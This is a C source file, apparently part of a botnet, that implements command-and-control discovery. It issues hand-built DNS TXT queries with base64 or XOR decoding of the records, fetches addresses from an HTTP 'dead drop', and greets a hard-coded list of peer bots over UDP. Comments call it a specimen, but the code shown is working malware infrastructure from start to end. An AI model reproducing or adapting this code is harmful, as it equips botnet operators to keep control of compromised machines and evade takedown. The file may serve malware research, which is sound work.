/* C2s that are not in the file: TXT records, dead drops; and the list of other bots. */
#include "reach.h"

#include "inert.h"
#include "packet.h"
#include "resolver.h"
#include "util.h"

#if C2_FROM == C2_TXT

#define DNS_TXT 16

#if C2_TRANSFORM == TRANSFORM_BASE64
static int base64_value(char letter)
{
    if (letter >= 'A' && letter <= 'Z')
        return letter - 'A';
    if (letter >= 'a' && letter <= 'z')
        return letter - 'a' + 26;
    if (letter >= '0' && letter <= '9')
        return letter - '0' + 52;
    return letter == '+' ? 62 : letter == '/' ? 63 : -1;
}
#endif

/* Undoes what the record's owner did to the text. */
LOCAL void decode_record(char *out, const char *text, int length)
{
    int i, at = 0;
#if C2_TRANSFORM == TRANSFORM_BASE64
    uint32_t bits = 0;
    int count = 0;
    for (i = 0; i < length && base64_value(text[i]) >= 0; i++) {
        bits = bits << 6 | (uint32_t)base64_value(text[i]);
        count += 6;
        if (count >= 8) {
            count -= 8;
            out[at++] = (char)(bits >> count);
        }
    }
#elif C2_TRANSFORM == TRANSFORM_XOR
    for (i = 0; i < length; i++)
        out[at++] = (char)(text[i] ^ MIXED_BYTE);
#else
    for (i = 0; i < length; i++)
        out[at++] = text[i];
#endif
    out[at] = '\0';
}

static int build_query(uint8_t *query, const char *name, uint16_t id)
{
    struct dns_header *header = (struct dns_header *)query;
    struct dns_question question;
    int length;
    header->id = id;
    header->flags = htons(0x0100);
    header->questions = htons(1);
    resolver_domain_to_hostname((char *)(header + 1), name);
    length = (int)sizeof(struct dns_header) + util_strlen((char *)(header + 1)) + 1;
    question.type = htons(DNS_TXT);
    question.class = htons(1);
    memcpy(query + length, &question, sizeof(question));
    return length + (int)sizeof(question);
}

/* The first text of the first answer; the answer's name is a pointer of two bytes. */
static int first_text(const uint8_t *response, int at, int length, const char **text)
{
    struct dns_resource resource;
    at += 2;
    if (at + (int)sizeof(resource) + 1 > length)
        return 0;
    memcpy(&resource, response + at, sizeof(resource));
    at += (int)sizeof(resource);
    if (resource.type != htons(DNS_TXT) || at + 1 + response[at] > length)
        return 0;
    *text = (const char *)response + at + 1;
    return response[at];
}

ipv4_t address_of_text_record(const char *name)
{
    uint8_t query[512], response[512];
    char decoded[256];
    const char *text;
    struct sockaddr_in server;
    struct timeval wait;
    fd_set readable;
    uint16_t id = (uint16_t)rand_next();
    int length, received = 0, text_length, fd;

    util_zero(query, sizeof(query));
    length = build_query(query, name, id);
    util_zero(&server, sizeof(server));
    server.sin_family = AF_INET;
    server.sin_addr.s_addr = NETWORK_ADDRESS(RESOLVER_1, RESOLVER_2, RESOLVER_3, RESOLVER_4);
    server.sin_port = NETWORK_PORT(53);
    if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) == -1)
        return 0;
    FD_ZERO(&readable);
    FD_SET(fd, &readable);
    wait.tv_sec = 5;
    wait.tv_usec = 0;
    if (bounded_send(fd, query, length, &server) != -1 &&
        select(fd + 1, &readable, NULL, NULL, &wait) > 0)
        received = (int)recvfrom(fd, response, sizeof(response), MSG_NOSIGNAL, NULL, NULL);
    close(fd);
    if (received <= length || ((struct dns_header *)response)->id != id)
        return 0;
    text_length = first_text(response, length, received, &text);
    if (text_length == 0)
        return 0;
    decode_record(decoded, text, text_length);
    return inet_addr(decoded) == 0xffffffffu ? 0 : inet_addr(decoded);
}

#endif

#if C2_FROM == C2_DEAD_DROP

/* A specimen has no TLS: the request goes as it is. */
ipv4_t address_of_dead_drop(ipv4_t server, const char *host, const char *path)
{
    static const char marker[] = "\"data\":\"";
    struct sockaddr_in to;
    char request[512], answer[1024];
    int at = 0, length = 0, fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd == -1)
        return 0;
    util_zero(&to, sizeof(to));
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = server;
    to.sin_port = NETWORK_PORT(443);
    at += util_strcpy(request + at, "GET ");
    at += util_strcpy(request + at, path);
    at += util_strcpy(request + at, " HTTP/1.1\r\nHost: ");
    at += util_strcpy(request + at, host);
    at += util_strcpy(request + at, "\r\nAccept: application/dns-json\r\n\r\n");
    if (bounded_connect(fd, &to) != -1 && bounded_stream_send(fd, request, at) > 0)
        length = (int)recv(fd, answer, sizeof(answer) - 1, MSG_NOSIGNAL);
    close(fd);
    if (length <= 0)
        return 0;
    answer[length] = '\0';
    at = util_stristr(answer, length, marker);
    if (at == -1)
        return 0;
    for (length = at; answer[length] != '"' && answer[length] != '\0'; length++)
        continue;
    answer[length] = '\0';
    return inet_addr(answer + at) == 0xffffffffu ? 0 : inet_addr(answer + at);
}

#endif

#if HAS_PEERS

struct peer {
    ipv4_t address;
    port_t port;
};

#define PEER_AT(A, B, C, D, PORT) {NETWORK_ADDRESS(A, B, C, D), NETWORK_PORT(PORT)},
static const struct peer peers[] = {PEERS(PEER_AT)};

#define PEER_COUNT ((int)(sizeof(peers) / sizeof(peers[0])))

void greet_peers(void)
{
    static int turn = -1;
    static const uint8_t hello[8] = {'p', 'e', 'e', 'r', 0, 1, 0, 0};
    struct sockaddr_in to;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd == -1)
        return;
    if (turn == -1)
        turn = (int)(rand_next() % PEER_COUNT);
    util_zero(&to, sizeof(to));
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = peers[turn].address;
    to.sin_port = peers[turn].port;
    turn = (turn + 1) % PEER_COUNT;
    bounded_send(fd, hello, sizeof(hello), &to);
    close(fd);
}

#endif
